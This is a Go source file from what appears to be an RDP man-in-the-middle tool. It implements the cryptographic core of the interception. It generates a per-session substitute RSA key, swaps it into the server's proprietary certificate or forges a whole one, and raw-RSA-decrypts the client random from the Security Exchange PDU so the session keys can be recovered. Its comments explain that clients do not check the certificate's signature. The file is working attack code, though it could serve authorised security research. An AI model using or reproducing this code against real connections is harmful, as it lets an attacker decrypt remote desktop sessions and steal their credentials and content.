package cryptosec

import (
	"crypto/rand"
	"crypto/rsa"
	"math/big"

	"github.com/kdsmith18542/rdpmitm/core"
	"github.com/kdsmith18542/rdpmitm/proto/gcc"
)

// substituteKeyBits is the RSA modulus size generated on session
// construction, per spec §4.2 ("generate a fresh 2048-bit RSA key").
const substituteKeyBits = 2048

// SubstituteKey is the MITM's per-session RSA keypair: its public
// modulus/exponent replace the real server's inside ServerCertificate,
// and its private half decrypts the client's Security Exchange PDU.
type SubstituteKey struct {
	private *rsa.PrivateKey
}

// GenerateSubstituteKey creates a fresh 2048-bit RSA key. Called once
// per Session at construction time (spec §4.2), never reused across
// sessions.
func GenerateSubstituteKey() *SubstituteKey {
	key, err := rsa.GenerateKey(rand.Reader, substituteKeyBits)
	core.ThrowError(err)
	return &SubstituteKey{private: key}
}

// Substitute rewrites cert in place, replacing its RSA_PUBLIC_KEY blob
// with the MITM's substitute key while leaving every other field -
// DwVersion, the signature algorithm/type IDs, Signature itself -
// untouched. Spec §4.3 is explicit that all other certificate fields
// are preserved verbatim; the MITM never needs a valid signature over
// its substitute key because no RDP client validates the proprietary
// certificate's signature against a trusted root (it is a self-signed,
// vendor-specific format with no chain to verify). The modulus goes on
// the wire little-endian with 8 bytes of zero padding, matching how
// every real server encodes it.
func (k *SubstituteKey) Substitute(cert *gcc.ProprietaryCertificate) {
	pub := &k.private.PublicKey
	modulus := reverseBytes(pub.N.Bytes())
	cert.PublicExponent = uint32(pub.E)
	cert.Modulus = append(modulus, make([]byte, 8)...)
	cert.KeyLen = uint32(len(cert.Modulus))
	cert.BitLen = uint32(pub.N.BitLen())
	cert.DataLen = cert.BitLen/8 - 1
}

// ProprietaryCert builds a complete proprietary certificate around the
// substitute key, for real servers that presented an X.509 chain
// instead of the proprietary form: the chain cannot carry a swapped
// key field-by-field, so the MITM falls back to emitting the
// proprietary form whole, which every RDP client accepts.
func (k *SubstituteKey) ProprietaryCert() *gcc.ProprietaryCertificate {
	cert := &gcc.ProprietaryCertificate{
		DwVersion:         gcc.CERT_CHAIN_VERSION_1,
		DwSigAlgID:        1, // SIGNATURE_ALG_RSA
		DwKeyAlgID:        1, // KEY_EXCHANGE_ALG_RSA
		PublicKeyBlobType: 6, // BB_RSA_KEY_BLOB
		Magic:             0x31415352,
		SignatureBlobType: 8, // BB_RSA_SIGNATURE_BLOB
		Signature:         make([]byte, 72),
	}
	k.Substitute(cert)
	return cert
}

// Public exposes the substitute public key, for tests and for the
// recorder's key-material dump.
func (k *SubstituteKey) Public() *rsa.PublicKey {
	return &k.private.PublicKey
}

// DecryptClientRandom reverses, RSA-decrypts, and reverses again the
// encrypted client random from a Security Exchange PDU, per spec
// §4.2/§5's invariant: "decrypting reverse(clientRandom) with the MITM
// RSA private key and reversing the result yields the plaintext
// clientRandom." RDP transmits RSA-encrypted blocks byte-reversed
// relative to the usual big-endian convention, hence the double
// reversal instead of a plain PKCS#1 decrypt.
// clientRandomSize is the length of the actual client random embedded
// in the (zero-padded) RSA block, [MS-RDPBCGR] 5.3.4.
const clientRandomSize = 32

func (k *SubstituteKey) DecryptClientRandom(encrypted []byte) []byte {
	reversed := reverseBytes(encrypted)
	plain, err := decryptRaw(k.private, reversed)
	core.ThrowError(err)
	block := reverseBytes(plain)
	if len(block) > clientRandomSize {
		block = block[:clientRandomSize]
	}
	return block
}

// decryptRaw performs a raw (unpadded) RSA decryption: RDP's Security
// Exchange PDU carries the client random encrypted with plain
// textbook RSA (no OAEP/PKCS#1v1.5 padding), since both ends agree on
// a fixed-length payload out of band. crypto/rsa has no exported
// unpadded-decrypt primitive, so this does the modular exponentiation
// with math/big directly, the same operation rsa.DecryptPKCS1v15 does
// internally before stripping padding.
func decryptRaw(priv *rsa.PrivateKey, ciphertext []byte) ([]byte, error) {
	c := new(big.Int).SetBytes(ciphertext)
	m := new(big.Int).Exp(c, priv.D, priv.N)
	out := m.Bytes()
	keyLen := (priv.N.BitLen() + 7) / 8
	if len(out) < keyLen {
		padded := make([]byte, keyLen)
		copy(padded[keyLen-len(out):], out)
		out = padded
	}
	return out, nil
}

// EncryptClientRandom performs the client-role mirror of
// DecryptClientRandom: zero-pad the 32-byte random to the key length,
// reverse, raw-RSA-encrypt under the real server's public key, reverse
// again. The outbound half uses this to run its own Security Exchange
// against the real server with a fresh random of its own.
func EncryptClientRandom(pub *rsa.PublicKey, clientRandom []byte) []byte {
	keyLen := (pub.N.BitLen() + 7) / 8
	block := make([]byte, keyLen)
	copy(block, clientRandom) // little-endian: random first, zero pad after
	m := new(big.Int).SetBytes(reverseBytes(block))
	c := m.Exp(m, big.NewInt(int64(pub.E)), pub.N)
	out := c.Bytes()
	if len(out) < keyLen {
		padded := make([]byte, keyLen)
		copy(padded[keyLen-len(out):], out)
		out = padded
	}
	return reverseBytes(out)
}

func reverseBytes(b []byte) []byte {
	out := make([]byte, len(b))
	for i, v := range b {
		out[len(b)-1-i] = v
	}
	return out
}
